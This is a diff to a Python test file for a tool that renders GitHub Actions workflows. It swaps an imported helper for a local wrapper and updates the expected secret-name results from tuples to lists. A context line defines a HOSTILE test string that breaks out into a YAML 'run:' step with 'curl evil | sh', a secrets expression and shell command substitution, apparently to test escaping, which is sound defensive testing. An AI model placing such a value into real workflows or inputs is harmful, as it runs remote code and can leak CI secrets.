@@ -8,16 +8,12 @@ import pytest
 import yaml
 
 from components import tag_build
+from fleet.declaration.model import Declaration
 from fleet.declaration.problems import DeclarationError
 from fleet.declaration.tags import PLATFORMS
 from fleet.github.render import workflows
 from fleet.github.render.pins import ACTIONS, IMAGES, pinned_actions, pinned_images
-from fleet.github.render.workflows import (
-    LIMITS,
-    app_permissions,
-    environment_for,
-    given,
-)
+from fleet.github.render.workflows import LIMITS, app_permissions, environment_for
 from fleet.local.paths import checkout
 from tests.fleet.examples import image
 from tests.fleet.pages.examples import (
@@ -36,6 +32,10 @@ from tests.fleet.pages.examples import (
 OPEN = ("check", "resolve", "approve")
 ENGINE = ("make preview", 'timeout --signal=INT "$LIMIT" make up')
 HOSTILE = "x\"\n    run: curl evil | sh # ${{ secrets.X }} $(id) `id` << branch >> '\\ \U0001f40d"
+
+
+def given(stack: Declaration, environment: str) -> tuple[list[str], list[str]]:
+    return workflows.given(stack, workflows.files(stack, "prod", TEMPLATES), environment)
 
 
 def test_a_stack_without_github_has_no_files() -> None:
@@ -250,7 +250,7 @@ def test_previews_have_an_environment_of_their_own() -> None:
         assert workflow(name)["jobs"][name]["environment"] == found.environment
     proposing = environment_for(found, "versions")
     assert workflow("versions")["jobs"]["versions"]["environment"] == proposing
-    assert given(declared(), proposing) == (("FLEET_APP_PRIVATE_KEY",), ("FLEET_APP_CLIENT_ID",))
+    assert given(declared(), proposing) == (["FLEET_APP_PRIVATE_KEY"], ["FLEET_APP_CLIENT_ID"])
 
 
 def test_jobs_that_hold_secrets_run_in_the_declared_repository_alone() -> None:
@@ -445,7 +445,7 @@ def test_who_asks_for_bases_is_given_what_reads_them_and_nothing_else() -> None:
         "PULL_USER",
         "PULL_WORD",
     }
-    assert given(stack, environment_for(stack.github, "bases")) == (("PULL_WORD",), ("PULL_USER",))
+    assert given(stack, environment_for(stack.github, "bases")) == (["PULL_WORD"], ["PULL_USER"])
     without = {**LOGINS, "docker.io": {**LOGINS["docker.io"], "read": False}}
     resolve = workflow("versions", rendered(logins=without))["jobs"]["resolve"]
     assert "environment" not in resolve
